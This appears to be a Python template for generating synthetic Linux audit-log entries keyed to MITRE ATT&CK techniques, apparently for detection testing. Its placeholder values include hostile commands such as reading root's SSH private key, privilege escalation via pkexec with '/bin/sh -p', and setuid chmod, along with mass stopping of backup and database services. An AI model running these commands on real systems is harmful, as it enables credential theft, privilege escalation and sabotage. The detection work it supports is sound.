«TIME_INJOFFSET|TIME_ADJNTPVAL» ;; «admin|web» ;; =sec=-«num:20000000:400000000» nsec=«num:1000:999999999» {ids}
«USYS_CONFIG|SYSTEM_RUNLEVEL» ;; «admin|web» ;; op=change-system-time exe="/usr/«sbin/hwclock|bin/date|bin/timedatectl|bin/«letters:4»»" hostname=? addr=? terminal=«pts/«num:0:4»|?» res=success
# T1489 note services and machines stopped at once
SERVICE_STOP ;; «web|svc|db» ;; unit=«mysql|postgresql|docker|nginx|libvirtd|veeamservice|elasticsearch|mongod|bacula-fd|httpd|vmware-vpxd|kubelet|ssh» comm="«systemctl|«letters:4»|sh|python3»" exe="/«usr/bin/systemctl|tmp/«letters:4»|dev/shm/.«letters:3»»" hostname=? addr=? terminal=? res=success
VIRT_CONTROL ;; «web|svc» ;; virt=kvm op=stop reason=«destroyed|crashed» vm="«word»-«num:1:40»" uuid=«guid» vm-pid=-1 exe="/«usr/bin/virsh|tmp/«letters:4»|usr/sbin/libvirtd»" hostname=«?|«pub»» addr=«?|«pub»» terminal=? res=success
# T1531 note accounts taken from their owners
«DEL_USER|USER_MGMT|ACCT_LOCK» ;; «web|svc|db» ;; op=«deleting user|delete-user|lock password|changing uid|deleting user entries|expire» acct="«admin|root|«admin»|«other»|ubuntu|ec2-user»" exe="/usr/sbin/«userdel|usermod|chpasswd»" hostname=? addr=? terminal=«?|pts/«num:0:4»» res=«success|failed»
USER_CHAUTHTOK ;; «web|svc|db» ;; op=«PAM:chauthtok|change password|updating password» acct="«root|«admin»|«other»»" exe="/usr/«sbin/chpasswd|bin/passwd»" hostname=«?|«pub»» addr=«?|«pub»» terminal=? res=success
# T1556 note the doors of mail files and desks tried
USER_AUTH ;; svc ;; op=PAM:authentication grantors=? acct="«root|admin|test|info|backup|«first»|administrator|scan|oracle|guest»" exe="/usr/«sbin/smbd|libexec/dovecot/auth|sbin/vsftpd|sbin/xrdp-sesman|sbin/cockpit-session|sbin/openvpn|sbin/proftpd|bin/vlock»" ‹far› terminal=«samba|dovecot|ftp|xrdp-sesman|?» res=failed
«USER_START|USER_ACCT|CRED_ACQ» ;; svc ;; op=PAM:«session_open|accounting|setcred» grantors=pam_permit acct="«root|nobody|www-data|daemon|mail|lp|games»" exe="/usr/«sbin/smbd|sbin/vsftpd|sbin/xrdp-sesman|sbin/cockpit-session|bin/login|sbin/in.telnetd»" ‹far› terminal=«samba|ftp|xrdp-sesman|pts/«num:0:9»» res=success
# T1548.004 note rights asked of polkit
USER_AUTH ;; «web|db|svc» ;; op=PAM:authentication grantors=? acct="root" exe="/usr/lib/polkit-1/polkit-agent-helper-1" hostname=? addr=? terminal=? res=failed
«USER_CMD|USER_ERR» ;; «web|db|svc» ;; cwd="«/tmp|/var/tmp|/dev/shm»" cmd={hex:«/bin/bash|/usr/bin/id|/bin/sh -p|‹bin›|/usr/bin/cat /root/.ssh/id_rsa|chmod 4755 /tmp/«letters:2»|/usr/bin/chown root:root ‹bin›»} exe="/usr/bin/«pkexec|doas|sudo»" terminal=? res=«success|failed»
# T1571 note rules for the firewall by strangers
NETFILTER_CFG ;; «web|svc|db» ;; =table=«filter|nat|mangle»:«num:2:90» family=2 entries=«num:0:9» op=«nft_register_rule|xt_replace|nft_unregister_rule» pid={pid} subj=unconfined comm="«sh|bash|python3|«letters:4»|.«letters:3»|kworkerds|perl|curl»"
""", NOTE_FRAGMENTS))
